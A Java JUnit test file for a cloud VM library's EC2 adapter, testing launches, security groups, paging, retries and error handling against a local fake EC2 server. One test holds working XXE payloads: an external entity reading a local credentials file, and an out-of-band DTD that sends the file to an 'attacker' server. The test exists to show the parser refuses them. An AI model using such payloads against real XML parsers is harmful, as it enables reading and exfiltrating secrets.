package dev.flotilla.vm.aws;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.flotilla.vm.Capability;
import dev.flotilla.vm.CloudException;
import dev.flotilla.vm.CloudException.Kind;
import dev.flotilla.vm.ConfigurationException;
import dev.flotilla.vm.Image;
import dev.flotilla.vm.Instance;
import dev.flotilla.vm.KeyPair;
import dev.flotilla.vm.Lifecycle.State;
import dev.flotilla.vm.Node;
import dev.flotilla.vm.RetryPolicy;
import dev.flotilla.vm.Secret;
import dev.flotilla.vm.UnsupportedCapabilityException;
import dev.flotilla.vm.VmClient;
import dev.flotilla.vm.aws.internal.NodeNames;
import dev.flotilla.vm.spi.CreateRequest;
import dev.flotilla.vm.spi.Provider;
import dev.flotilla.vm.store.InMemoryNodeStore;
import dev.flotilla.vm.testkit.VirtualClock;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The EC2 adapter's own behaviour: real jclouds over HTTP to the local EC2 server. */
class AwsProviderTest {
  private Ec2Server server;
  private AwsProvider provider;
  private final VirtualClock clock = VirtualClock.create();

  @BeforeEach
  void start() throws IOException {
    server = Ec2Server.start();
    provider = (AwsProvider) new AwsProviderFactory().open(AwsContractTest.profile(server));
  }

  @AfterEach
  void stop() {
    provider.close();
    server.close();
  }

  /** A client that waits on a virtual clock: the server's instances change as they are observed, not in time. */
  private VmClient client() {
    return VmClient.builder().provider(provider).clock(clock).sleeper(clock).random(() -> 0.5).build();
  }

  private static List<Node> nodes(int n) {
    return IntStream.rangeClosed(1, n).mapToObj(i -> Node.builder("web" + i).type("t3.micro").build()).toList();
  }

  @Test
  void aSecurityGroupGivenByIdIsPassedAsItIsAndOneByNameIsLookedUp() {
    client().start(Node.builder("web1").type("t3.micro").securityGroups("sg-1").build());
    assertThat(server.count("DescribeSecurityGroups")).as("an id needs no lookup").isZero();
    client().start(Node.builder("web2").type("t3.micro").securityGroups("default", "sg-1").build());
    assertThat(server.count("DescribeSecurityGroups")).isEqualTo(1);
    assertThatThrownBy(() -> client().start(Node.builder("web3").type("t3.micro").securityGroups("sg-0ff").build()))
        .hasMessageContaining("sg-0ff").hasMessageContaining("does not exist");
  }

  private String groupSent(int launch) {
    return server.requests.stream().filter(r -> "RunInstances".equals(r.get("Action"))).skip(launch).findFirst()
        .orElseThrow().get("SecurityGroupId.1");
  }

  @Test
  void aGroupNamedIsTheOneOfTheVpcTheNodeLaunchesIntoEveryVpcHavingItsDefault() {
    client().start(Node.builder("web1").securityGroups("default").build());
    assertThat(groupSent(0)).as("no subnet: the region's default VPC").isEqualTo("sg-1");
    client().start(Node.builder("web2").securityGroups("default").option("SubnetId", "subnet-2").build());
    assertThat(groupSent(1)).as("subnet-2 is in vpc-2").isEqualTo("sg-2");
    try (VmClient c = VmClient.builder().profile(AwsContractTest.profile(server).toBuilder()
        .setting("subnet_id", "subnet-2").build()).clock(clock).sleeper(clock).build()) {
      c.start(Node.builder("web3").securityGroups("default").build());
    }
    assertThat(groupSent(2)).as("the profile's subnet_id").isEqualTo("sg-2");
    assertThat(server.requests.stream().filter(r -> "RunInstances".equals(r.get("Action"))).skip(2).findFirst()
        .orElseThrow()).containsEntry("SubnetId", "subnet-2");
    assertThat(server.count("DescribeVpcs") + server.count("DescribeSubnets")).as("each VPC looked up once a client")
        .isEqualTo(3);

    assertThatThrownBy(() -> client().start(Node.builder("web4").securityGroups("sg-2").build()))
        .as("an id of another VPC's group: EC2 refuses the launch").hasMessageContaining("different networks");
  }

  @Test
  void aGroupNameThatLooksLikeAnIdIsNeitherLookedUpNorMade() {
    dev.flotilla.vm.Profile making = AwsContractTest.profile(server).toBuilder()
        .setting("create_security_groups", "true").build();
    try (VmClient c = VmClient.builder().profile(making).clock(clock).sleeper(clock).build()) {
      assertThatThrownBy(() -> c.start(Node.builder("web1").securityGroups("sg-web").build()))
          .isInstanceOf(ConfigurationException.class).hasMessageContaining("sg-web")
          .hasMessageContaining("security group id");
    }
    assertThat(server.count("CreateSecurityGroup") + server.count("RunInstances")).isZero();
    assertThatThrownBy(() -> new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .setting("subnet_id", "vpc-1").build())).isInstanceOf(ConfigurationException.class)
        .hasMessageContaining("profiles.").hasMessageContaining("subnet_id").hasMessageContaining("'vpc-1'");
  }

  @Test
  void aFullZoneAnswersAsEc2DoesAndTheNodeMovesToTheProfilesNextZone() {
    server.capacity.put(Ec2Server.REGION + "a", 0);
    dev.flotilla.vm.Profile zoned = AwsContractTest.profile(server).toBuilder().zones(List.of(Ec2Server.REGION + "a",
        Ec2Server.REGION + "b")).build();
    dev.flotilla.vm.testkit.EventLog events = new dev.flotilla.vm.testkit.EventLog();
    dev.flotilla.vm.store.InMemoryNodeStore store = new dev.flotilla.vm.store.InMemoryNodeStore();
    try (VmClient c = VmClient.builder().profile(zoned).store(store).clock(clock).sleeper(clock).random(() -> 0.5)
        .listener(events).build()) {
      server.resetCounts();
      Instance vm = c.start(Node.builder("web1").type("t3.large").build());

      assertThat(vm.zone()).contains(Ec2Server.REGION + "b");
      assertThat(store.get("web1").flatMap(Node::placeOfVm)).contains(new dev.flotilla.vm.Place("aws-local",
          Ec2Server.REGION + "b"));
      assertThat(events.moves()).singleElement().satisfies(m -> assertThat(m.describe()).isEqualTo("web1: " + Ec2Server.REGION
          + "a has no capacity for t3.large; trying " + Ec2Server.REGION + "b"));
      assertThat(server.count("RunInstances")).as("one refused, one made, never retried as a server error")
          .isEqualTo(2);
      long withMove = server.count("DescribeInstances");
      server.resetCounts();
      c.start(Node.builder("web2").type("t3.large").zone(Ec2Server.REGION + "b").build());
      assertThat(withMove - server.count("DescribeInstances")).as("a move costs the refused RunInstances and one"
          + " look, the list after the refusal").isEqualTo(1);
      assertThat(c.list()).filteredOn(i -> i.state() != State.TERMINATED).hasSize(2);
    }
  }

  @Test
  void aReapOfExpiredLeasesIsOneDescribeAndOneTerminate() {
    VmClient earlier = VmClient.builder().provider(provider).clock(java.time.Clock.offset(java.time.Clock.systemUTC(),
        Duration.ofHours(-2))).sleeper(clock).random(() -> 0.5).build();
    earlier.start(IntStream.rangeClosed(1, 5).mapToObj(i -> Node.builder("tmp" + i).lease(Duration.ofHours(1))
        .build()).toList());
    client().start(nodes(3)); // no lease
    server.resetCounts();

    List<dev.flotilla.vm.Reaper.Reaped> reaped = dev.flotilla.vm.Reaper.of(VmClient.builder().provider(provider)
        .build()).reap(); // on the real clock, as the leases were written

    assertThat(reaped).hasSize(5);
    assertThat(server.count("DescribeInstances")).isEqualTo(1);
    assertThat(server.count("TerminateInstances")).isEqualTo(1);
    assertThat(server.total()).as("one list, one batched destroy").isEqualTo(2);
  }

  @Test
  void aListingIsReadPageByPageWithinTheProfilesBound() throws Exception {
    client().start(nodes(12));
    try (AwsProvider paged = (AwsProvider) new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .setting("page_size", "5").build())) {
      server.describePages = 0;
      assertThat(paged.list()).hasSize(12).extracting(vm -> vm.nodeName().orElseThrow()).doesNotHaveDuplicates();
      assertThat(server.describePages).as("pages of 5").isEqualTo(3);
    }
    try (AwsProvider bounded = (AwsProvider) new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .setting("page_size", "5").setting("max_list_items", "7").build())) {
      assertThatThrownBy(bounded::list).isInstanceOfSatisfying(dev.flotilla.vm.CloudException.class,
          e -> assertThat(e.getMessage()).contains("more than 7").contains("max_list_items"));
    }
    server.endlessEmptyPages = true;
    server.describePages = 0;
    try (AwsProvider paged = (AwsProvider) new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .setting("page_size", "500").build())) {
      assertThatThrownBy(paged::list).hasMessageContaining("pages without end");
      assertThat(server.describePages).as("20000 / 500 + 100 pages at most").isLessThanOrEqualTo(141);
    }
    server.endlessEmptyPages = false;
    assertThatThrownBy(() -> new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .setting("page_size", "lots").build())).hasMessageContaining("profiles.aws-local.auth.page_size")
        .hasMessageContaining("'lots'");
  }

  @Test
  void anEcdsaKeyIsRefusedBeforeItIsSentSayingWhichKindsEc2Takes() {
    String ecdsa = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBEmKSENjQEezOmxkZMy7opKgwFB"
        + "9nkt5YRrYMjNuG5N87uRgg6CLrbo5wAdT/y6v0mKV0U2w0WZ2YB/++Tpockg= ops@lal";
    assertThatThrownBy(() -> provider.keys().orElseThrow().importKey("ops", ecdsa))
        .isInstanceOf(dev.flotilla.vm.ConfigurationException.class).hasMessageContaining("ecdsa-sha2-nistp256")
        .hasMessageContaining("RSA and ED25519");
    assertThat(server.count("ImportKeyPair")).isZero();
  }

  @Test
  void theDefaultTypeIsTheProfilesDefaultInstanceTypeAndOnlyIt() throws Exception {
    try (AwsProvider leap = (AwsProvider) new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .defaultOption("InstanceType", "t2.small").build())) {
      assertThat(leap.types()).filteredOn(dev.flotilla.vm.InstanceType::isDefault)
          .extracting(dev.flotilla.vm.InstanceType::name).containsExactly("t2.small");
    }
    assertThat(provider.types()).filteredOn(dev.flotilla.vm.InstanceType::isDefault)
        .extracting(dev.flotilla.vm.InstanceType::name).containsExactly("t3.micro");
  }

  @Test
  void aHundredNodesCostOneLookOneRunInstancesOneTerminateAndOneDescribePerRound() {
    VmClient client = client();
    List<Instance> vms = client.start(nodes(100));
    long describesToStart = server.count("DescribeInstances");
    long roundsToStart = clock.sleeps() + 1;
    client.destroy(nodes(100));

    assertThat(vms).hasSize(100).allSatisfy(vm -> assertThat(vm.state()).isEqualTo(State.RUNNING));
    assertThat(vms).extracting(vm -> vm.nodeName().orElseThrow())
        .containsExactlyElementsOf(IntStream.rangeClosed(1, 100).mapToObj(i -> "web" + i).toList());
    assertThat(server.count("RunInstances")).as("one launch per node: each its own Name").isEqualTo(100);
    assertThat(server.count("CreateTags")).as("tagged at launch").isZero();
    assertThat(server.vms.values()).allSatisfy(vm -> assertThat(vm.tags).containsKey(Instance.TOKEN_TAG)
        .containsKey(Instance.PROFILE_TAG).containsEntry("Name", vm.tags.get(Instance.NODE_TAG)));
    assertThat(server.vms.values()).extracting(vm -> vm.tags.get("Name")).doesNotHaveDuplicates()
        .containsExactlyInAnyOrderElementsOf(IntStream.rangeClosed(1, 100).mapToObj(i -> "web" + i).toList());
    assertThat(server.count("TerminateInstances")).isEqualTo(1);
    assertThat(describesToStart).as("one look for VMs an earlier try made, one per poll round")
        .isEqualTo(1 + roundsToStart);
    assertThat(server.count("DescribeRegions")).as("the endpoint is the profile's, not DescribeRegions'").isZero();
    assertThat(server.vms.values()).allSatisfy(vm -> assertThat(vm.state).isEqualTo("terminated"));
  }

  @Test
  void theJcloudsContextIsBuiltOnlyOnTheFirstCall() {
    VmClient client = client();
    assertThat(provider.contextBuilt()).isFalse();
    assertThat(server.total()).isZero();
    client.list();
    assertThat(provider.contextBuilt()).isTrue();
  }

  @Test
  void theClientTokenMakesARepeatedCreateReturnTheSameInstancesNodeByNode() {
    Node spec = Node.builder("spec").build();
    List<Instance> first = provider.create(new CreateRequest(spec, List.of("a1", "a2"), "token-1", Map.of()));
    List<Instance> again = provider.create(new CreateRequest(spec, List.of("a1", "a2"), "token-1", Map.of()));
    List<Instance> second = provider.create(new CreateRequest(spec, List.of("a2"), "token-1", Map.of()));

    assertThat(again).extracting(Instance::id).containsExactlyElementsOf(first.stream().map(Instance::id).toList());
    assertThat(second).extracting(Instance::id).as("a2's create alone: a2's instance").containsExactly(first.get(1).id());
    assertThat(server.vms).hasSize(2);
    assertThat(server.requests).filteredOn(r -> "RunInstances".equals(r.get("Action")))
        .allSatisfy(r -> assertThat(r).containsEntry("MinCount", "1").containsEntry("MaxCount", "1"))
        .extracting(r -> r.get("ClientToken")).containsOnly(AwsProvider.clientToken("token-1", "a1"),
            AwsProvider.clientToken("token-1", "a2"));
    assertThat(AwsProvider.clientToken(dev.flotilla.vm.internal.Tokens.random(), "a".repeat(300)))
        .as("EC2 takes 64 characters at most").hasSizeLessThanOrEqualTo(64);
  }

  /** A create killed after EC2 was asked, before the client wrote down what it made. */
  private static final class Killed extends RuntimeException {
    Killed() {
      super("killed after RunInstances");
    }
  }

  @Test
  void someNodesOfAnUnfinishedCreateStartedBeforeEc2ListsItsInstancesGetThoseInstancesNotNewOnes() {
    InMemoryNodeStore store = new InMemoryNodeStore();
    server.hideNewInstances(3); // eventual consistency: listings leave the new instances out for a while
    dev.flotilla.vm.spi.Provider dying = new dev.flotilla.vm.testkit.ForwardingProvider(provider) {
      @Override
      public List<Instance> create(CreateRequest request) {
        super.create(request);
        throw new Killed();
      }
    };
    assertThatThrownBy(() -> VmClient.builder().provider(dying).store(store).clock(clock).sleeper(clock).build()
        .start(nodes(5))).isInstanceOf(Killed.class);
    assertThat(server.vms).hasSize(5);

    List<Instance> started = VmClient.builder().provider(provider).store(store).clock(clock).sleeper(clock)
        .random(() -> 0.5).build().start(nodes(2));

    assertThat(server.vms).as("no second instance for web1 or web2").hasSize(5);
    assertThat(started).extracting(vm -> server.vms.get(vm.id()).tags.get("Name")).containsExactly("web1", "web2");
    assertThat(store.get("web3").flatMap(Node::createIntent)).as("web3's create is still open").isPresent();
  }

  @Test
  void instancesNotYetVisibleAreWaitedForAndNeverCreatedTwice() {
    server.hideNewInstances(3);
    List<Instance> vms = client().start(nodes(5));

    assertThat(vms).hasSize(5).allSatisfy(vm -> assertThat(vm.state()).isEqualTo(State.RUNNING));
    assertThat(server.vms).hasSize(5);
    assertThat(server.count("RunInstances")).isEqualTo(5);
    assertThat(server.vms.values()).allSatisfy(vm -> assertThat(vm.tags).containsKey(Instance.NODE_TAG));
  }

  @Test
  void onACloudThatIgnoresTagsAtLaunchTheClientTagsTheNewVmsWhenItFirstSeesThem() {
    server.ignoreTagSpecifications = true;
    List<Instance> vms = client().start(nodes(3));
    assertThat(vms).extracting(vm -> vm.nodeName().orElseThrow()).containsExactly("web1", "web2", "web3");
    assertThat(server.count("CreateTags")).isEqualTo(3);
    assertThat(server.vms.values()).extracting(vm -> vm.tags.get(Instance.NODE_TAG))
        .containsExactlyInAnyOrder("web1", "web2", "web3");
  }

  @Test
  void throttlingWhateverItsHttpStatusIsRetriedWithBackoffAndNeverMultipliesInstances() {
    server.failNext(2, 503, "RequestLimitExceeded");
    server.failNext(2, 400, "RequestLimitExceeded");
    server.failNext(1, 500, "InternalError");
    VmClient client = VmClient.builder().provider(provider).clock(clock).sleeper(clock)
        .retryPolicy(RetryPolicy.builder().maxAttempts(8).baseDelay(Duration.ofMillis(100)).build()).build();

    List<Instance> vms = client.start(nodes(10));

    assertThat(vms).hasSize(10);
    assertThat(server.vms).hasSize(10);
    assertThat(server.count("RunInstances") + server.count("DescribeInstances")).as("jclouds does not retry on its own")
        .isGreaterThanOrEqualTo(6);
    assertThat(clock.slept()).isGreaterThanOrEqualTo(Duration.ofMillis(100 + 200 + 400 + 800 + 1600).dividedBy(2));
  }

  @Test
  void errorsAreClassifiedAndAuthenticationIsNotRetried() {
    AwsProvider wrong = (AwsProvider) new AwsProviderFactory().open(AwsContractTest.profile(server).toBuilder()
        .credentials("AKIAWRONGWRONGWRONG1", Secret.of("nope")).build());
    assertThatThrownBy(wrong::list).isInstanceOfSatisfying(CloudException.class, e -> {
      assertThat(e.kind()).isEqualTo(Kind.AUTHENTICATION);
      assertThat(e.getMessage()).doesNotContain("nope");
    });
    assertThat(server.count("DescribeInstances")).isEqualTo(1);
    assertThatThrownBy(() -> provider.start(List.of("i-0fffffffffffffff0")))
        .isInstanceOfSatisfying(CloudException.class,
        e -> assertThat(e.code()).contains("InvalidInstanceID.NotFound"));
    assertThatThrownBy(() -> client().start(Node.builder("x").image("ubuntu").build()))
        .isInstanceOfSatisfying(CloudException.class, e -> {
          assertThat(e.kind()).isEqualTo(Kind.INVALID_REQUEST);
          assertThat(e.code()).contains("InvalidAMIID.Malformed");
        });
    assertThatThrownBy(() -> client().start(Node.builder("x").option("Colour", "blue").build()))
        .isInstanceOf(ConfigurationException.class).hasMessageContaining("vm.options.Colour");
  }

  @Test
  void everyEc2StateMapsToALifecycleStateAndTheWordIsKept() {
    assertThat(AwsProvider.state("pending")).isEqualTo(State.PENDING);
    assertThat(AwsProvider.state("running")).isEqualTo(State.RUNNING);
    assertThat(AwsProvider.state("stopping")).isEqualTo(State.STOPPING);
    assertThat(AwsProvider.state("stopped")).isEqualTo(State.STOPPED);
    assertThat(AwsProvider.state("shutting-down")).isEqualTo(State.TERMINATING);
    assertThat(AwsProvider.state("terminated")).isEqualTo(State.TERMINATED);
    assertThat(AwsProvider.state("hibernating")).isEqualTo(State.UNKNOWN);

    VmClient client = client();
    Node web = nodes(1).get(0);
    client.start(web);
    assertThat(client.stop(web).providerState()).isEqualTo("stopped");
    provider.terminate(List.of(client.status(web).orElseThrow().id()));
    assertThat(provider.list().get(0).providerState()).isEqualTo("terminated");
  }

  @Test
  void aProfilesDefaultOptionsReachRunInstancesUnderTheNodesOwn() {
    dev.flotilla.vm.Profile leap = AwsContractTest.profile(server).toBuilder().defaultOption("InstanceType", "t2.micro")
        .defaultOption("KeyName", "team").build();
    try (VmClient c = VmClient.builder().profile(leap).clock(clock).sleeper(clock).build()) {
      c.start(Node.builder("d1").build());
      c.start(Node.builder("d2").type("m5.large").option("KeyName", "mine").build());
    }
    List<Map<String, String>> runs = server.requests.stream().filter(r -> "RunInstances".equals(r.get("Action")))
        .toList();
    assertThat(runs.get(0)).containsEntry("InstanceType", "t2.micro").containsEntry("KeyName", "team");
    assertThat(runs.get(1)).as("the node's own win").containsEntry("InstanceType", "m5.large")
        .containsEntry("KeyName", "mine");
  }

  @Test
  void nodePropertiesReachRunInstances() {
    client().start(Node.builder("web1").image("ami-0aaaaaaaaaaaaaaaa").type("m5.large").keyPair("ops")
        .zone("us-east-1b")
        .securityGroups("default").userData("#cloud-config\n").option("SubnetId", "subnet-1").build());
    Map<String, String> run = server.requests.stream().filter(r -> "RunInstances".equals(r.get("Action"))).findFirst()
        .orElseThrow();
    assertThat(run).containsEntry("ImageId", "ami-0aaaaaaaaaaaaaaaa").containsEntry("InstanceType", "m5.large")
        .containsEntry("KeyName", "ops").containsEntry("Placement.AvailabilityZone", "us-east-1b")
        .containsEntry("SecurityGroupId.1", "sg-1").doesNotContainKey("SecurityGroup.1")
        .containsEntry("SubnetId", "subnet-1").containsKey("UserData");
    assertThat(run.get("ClientToken")).startsWith("flotilla-");
    assertThat(run).containsEntry("Version", AwsProvider.API_VERSION).containsEntry("TagSpecification.1.ResourceType",
        "instance").containsValue("node_name").containsValue("web1").containsValue("flotilla:profile")
        .containsValue("flotilla:token").containsValue("Name");
    assertThat(server.count("CreateTags")).isZero();
  }

  /** A fresh RSA public key in OpenSSH's one-line form. */
  private static String rsaKey() throws Exception {
    java.security.KeyPairGenerator g = java.security.KeyPairGenerator.getInstance("RSA");
    g.initialize(2048);
    var pub = (java.security.interfaces.RSAPublicKey) g.generateKeyPair().getPublic();
    var blob = new java.io.ByteArrayOutputStream();
    var out = new java.io.DataOutputStream(blob);
    for (byte[] part : List.of("ssh-rsa".getBytes(), pub.getPublicExponent().toByteArray(), pub.getModulus()
        .toByteArray())) {
      out.writeInt(part.length);
      out.write(part);
    }
    return "ssh-rsa " + java.util.Base64.getEncoder().encodeToString(blob.toByteArray()) + " ops@example";
  }

  @Test
  void keysAreImportedAndListedWithFingerprints() throws Exception {
    String key = rsaKey();
    KeyPair k = client().keys().register("ops", key);
    assertThat(client().keys().list()).containsExactly(k);
    assertThat(k.fingerprint()).isEqualTo(dev.flotilla.vm.support.SshKeys.ec2Md5(key).orElseThrow())
        .isNotEqualTo(dev.flotilla.vm.support.SshKeys.md5(key).orElseThrow());
    String ed25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example";
    KeyPair modern = client().keys().register("ops2", ed25519);
    assertThat(modern.fingerprint()).as("EC2 shows ed25519 keys by SHA-256")
        .isEqualTo(dev.flotilla.vm.support.SshKeys.sha256(ed25519).orElseThrow());
    assertThat(client().keys().list()).containsExactlyInAnyOrder(k, modern);
    assertThat(server.requests).filteredOn(r -> "ImportKeyPair".equals(r.get("Action"))).hasSize(2);
  }

  @Test
  void securityGroupsAreLookedUpAndMadeOnlyWhenTheProfileSaysSo() {
    Node web = Node.builder("web1").securityGroups("default", "web").option("ports", "22,80,8000-8080").build();
    assertThatThrownBy(() -> client().start(web)).isInstanceOf(ConfigurationException.class)
        .hasMessageContaining("'web'").hasMessageContaining("create_security_groups");
    assertThat(server.count("RunInstances")).as("never launched without the group").isZero();

    dev.flotilla.vm.Profile making = AwsContractTest.profile(server).toBuilder()
        .setting("create_security_groups", "true")
        .build();
    try (VmClient c = VmClient.builder().profile(making).clock(clock).sleeper(clock).build()) {
      c.start(web);
    }
    String id = server.group("web", Ec2Server.DEFAULT_VPC);
    assertThat(id).as("made in the VPC the nodes launch into").isNotNull();
    assertThat(server.rules.get(id)).containsExactly("tcp 22-22 0.0.0.0/0", "tcp 80-80 0.0.0.0/0",
        "tcp 8000-8080 0.0.0.0/0");
    assertThat(server.requests.stream().filter(r -> "RunInstances".equals(r.get("Action"))).findFirst().orElseThrow())
        .containsEntry("SecurityGroupId.1", "sg-1").containsEntry("SecurityGroupId.2", id);
  }

  @Test
  void antiAffinityIsASpreadPlacementGroupMadeOnFirstUse() {
    List<Node> db = IntStream.rangeClosed(1, 3).mapToObj(i -> Node.builder("db" + i).antiAffinityGroup("db").build())
        .toList();
    client().start(db);
    client().start(Node.builder("db4").antiAffinityGroup("db").build());

    assertThat(server.placementGroups).containsEntry("db", "spread");
    assertThat(server.count("CreatePlacementGroup")).isEqualTo(1);
    assertThat(server.vms.values()).allSatisfy(vm -> assertThat(vm.placementGroup).isEqualTo("db"));
    List<Node> tooMany = IntStream.rangeClosed(5, 8).mapToObj(i -> Node.builder("db" + i).antiAffinityGroup("db")
        .build()).toList();
    assertThatThrownBy(() -> client().start(tooMany)).isInstanceOfSatisfying(CloudException.class,
        e -> assertThat(e.kind()).isEqualTo(Kind.CAPACITY)).hasMessageContaining("spread placement group");

    server.placementGroups.put("hpc", "cluster");
    assertThatThrownBy(() -> client().start(Node.builder("x1").antiAffinityGroup("hpc").build()))
        .isInstanceOf(ConfigurationException.class).hasMessageContaining("not spread");
  }

  @Test
  void imagesAreReadWhenTheAnswersLeaveOptionalFieldsOut() {
    server.imagesWithoutOptionalFields = true;
    VmClient client = client();
    Node web = nodes(1).get(0);
    client.start(web);
    Image image = client.images(web).save("web-golden");
    assertThat(provider.images()).extracting(Image::id).containsExactly(image.id());
    assertThat(provider.imageSaving().orElseThrow().status(image.id())).contains(dev.flotilla.vm.Snapshot.Status.READY);
    // an answer without the image's tagSet cannot show that Flotilla saved it: deleting it needs force
    assertThatThrownBy(() -> client.images(web).delete(image.id(), false))
        .hasMessageContaining("not saved by Flotilla");
    client.images(web).delete(image.id(), true);
    assertThat(provider.imageSaving().orElseThrow().status(image.id())).as("gone: EC2 no longer knows it").isEmpty();
  }

  @Test
  void aVmIsSavedAsAnImageThatNewNodesBootAndMemorySnapshotsAreNotThere() {
    VmClient client = client();
    Node web = nodes(1).get(0);
    client.start(web);
    Image image = client.images(web).save("web-golden");
    assertThat(provider.images()).extracting(Image::id).contains(image.id());
    Instance clone = client.start(Node.builder("web2").image(image.id()).build());
    assertThat(clone.image()).contains(image.id());
    assertThat(server.imageTags.get(image.id())).containsEntry(Image.SAVED_FROM_TAG, web.name());
    client.images(web).delete(image.id(), false);
    assertThat(provider.images()).isEmpty();

    assertThat(dev.flotilla.vm.spi.Capabilities.of(provider)).contains(Capability.SNAPSHOT_TO_IMAGE)
        .doesNotContain(Capability.SNAPSHOTS);
    assertThatThrownBy(() -> client.snapshots(web).take("s1"))
        .isInstanceOf(UnsupportedCapabilityException.class)
        .hasMessageContaining("'aws' provider does not support VM snapshots");
  }

  @Test
  @org.junit.jupiter.api.Timeout(60)
  void silentSlowAndAbsentEndpointsFailWithinTheProfilesDeadlines() throws Exception {
    dev.flotilla.vm.testkit.TransportChecks.assertDeadlinesHold("aws-local", url -> new AwsProviderFactory().open(
        AwsContractTest.profile(server).toBuilder().endpoint(url.toString()).setting("idle_timeout", "0.5")
            .setting("request_timeout", "1.5").build()), Provider::list);
  }

  @Test
  void answersThatAreNotEc2sAreErrorsAndChangeNoRecord() {
    VmClient client = client();
    Node web = nodes(1).get(0);
    Instance vm = client.start(web);
    for (Ec2Server.Garbage junk : Ec2Server.Garbage.values()) {
      server.garbage("DescribeInstances", 1, junk);
      assertThatThrownBy(() -> provider.describe(List.of(vm.id()))).as(junk.name())
          .isInstanceOfSatisfying(CloudException.class, e -> {
            assertThat(e.kind()).isEqualTo(Kind.UNKNOWN);
            assertThat(e.getMessage()).contains("DescribeInstances").contains("nothing was concluded");
          });
      server.garbage("DescribeInstances", 1, junk);
      assertThatThrownBy(provider::list).isInstanceOf(CloudException.class);
      server.garbage("DescribeInstances", 1, junk);
      assertThatThrownBy(client::reconcile).isInstanceOf(CloudException.class);
      assertThat(client.record("web1").flatMap(Node::vmId)).as("after " + junk).contains(vm.id());
    }
    server.resetCounts();
    server.garbage("RunInstances", 1, Ec2Server.Garbage.HTML);
    server.ignoreClientTokens = true;
    Instance second = client.start(Node.builder("web2").build());
    assertThat(server.vms).as("the garbled create's VM was found and adopted, not made twice").hasSize(2);
    assertThat(server.count("RunInstances")).isEqualTo(1);
    assertThat(client.record("web2").flatMap(Node::vmId)).contains(second.id());
  }

  @Test
  void errorAnswersWithEntitiesAreNeitherResolvedNorFetchedNorPrinted() throws Exception {
    java.nio.file.Path secret = java.nio.file.Files.createTempFile("pgpass", ".txt");
    java.nio.file.Files.writeString(secret, "db:5432:*:flotilla:SECRET-PASSWORD\n");
    java.util.concurrent.atomic.AtomicInteger fetched = new java.util.concurrent.atomic.AtomicInteger();
    com.sun.net.httpserver.HttpServer attacker = com.sun.net.httpserver.HttpServer.create(
        new java.net.InetSocketAddress("127.0.0.1", 0), 0);
    int port = attacker.getAddress().getPort();
    attacker.createContext("/", ex -> {
      fetched.incrementAndGet();
      byte[] dtd = ("<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:" + port + "/?%file;'>\">")
          .getBytes(java.nio.charset.StandardCharsets.UTF_8);
      ex.sendResponseHeaders(200, dtd.length);
      ex.getResponseBody().write(dtd);
      ex.close();
    });
    attacker.start();
    String file = secret.toUri().toString();
    String general = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"" + file + "\">]><Response><Errors>"
        + "<Error><Code>InvalidParameterValue</Code><Message>&x;</Message></Error></Errors><RequestID>1</RequestID>"
        + "</Response>";
    String parameter = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % file SYSTEM \"" + file + "\"><!ENTITY % dtd"
        + " SYSTEM \"http://127.0.0.1:" + port + "/evil.dtd\"> %dtd; %all;]><Response><Errors><Error><Code>"
        + "InvalidParameterValue</Code><Message>&send;</Message></Error></Errors></Response>";
    java.io.PrintStream stderr = System.err;
    java.io.ByteArrayOutputStream printed = new java.io.ByteArrayOutputStream();
    System.setErr(new java.io.PrintStream(printed, true, java.nio.charset.StandardCharsets.UTF_8));
    try {
      for (String body : List.of(general, parameter)) {
        server.failNextWith(400, "text/xml;charset=UTF-8", body);
        assertThatThrownBy(provider::list).isInstanceOfSatisfying(CloudException.class, e -> {
          assertThat(e.kind()).as("a 400 that is not EC2's own error says nothing").isEqualTo(Kind.UNKNOWN);
          assertThat(e.getMessage()).contains("not an error of the cloud's own").doesNotContain("SECRET-PASSWORD");
        });
      }
      for (int i = 0; i < 6; i++) {
        server.failNextWith(503, "text/html", "<html><body><h1>Service Unavailable</h1>");
      }
      try {
        provider.list();
      } catch (CloudException e) {
        assertThat(e.kind()).isEqualTo(Kind.TRANSIENT);
      }
      server.clearFaults();
      server.failNextWith(500, "application/unknown", "upstream connect error or disconnect/reset before headers");
      try {
        provider.list();
      } catch (CloudException e) {
        assertThat(e.kind()).isEqualTo(Kind.TRANSIENT);
      }
    } finally {
      System.setErr(stderr);
      attacker.stop(0);
    }
    assertThat(fetched).as("nothing fetched the attacker's DTD").hasValue(0);
    assertThat(printed.toString(java.nio.charset.StandardCharsets.UTF_8)).doesNotContain("[Fatal Error]")
        .doesNotContain("SECRET-PASSWORD");
  }

  @Test
  void aProxysNotFoundNeitherEndsARecordNorSkipsADestroy() {
    VmClient client = client();
    Node web = nodes(1).get(0);
    Instance vm = client.start(web);
    server.garbage("DescribeInstances", 1, Ec2Server.Garbage.FOREIGN_404);
    assertThatThrownBy(() -> client.destroy(web)).isInstanceOfSatisfying(CloudException.class,
        e -> assertThat(e.kind()).isEqualTo(Kind.UNKNOWN));
    assertThat(client.record("web1").flatMap(Node::vmId)).contains(vm.id());
    assertThat(server.vms.get(vm.id()).state).isEqualTo("running");
    server.garbage("DescribeInstances", 1, Ec2Server.Garbage.INCOMPLETE);
    assertThatThrownBy(client::reconcile).isInstanceOf(CloudException.class);
    assertThat(client.record("web1").flatMap(Node::vmId)).as("an answer without its list proves nothing")
        .contains(vm.id());
    client.destroy(web);
    assertThat(server.vms.get(vm.id()).state).isIn("shutting-down", "terminated");
  }

  @Test
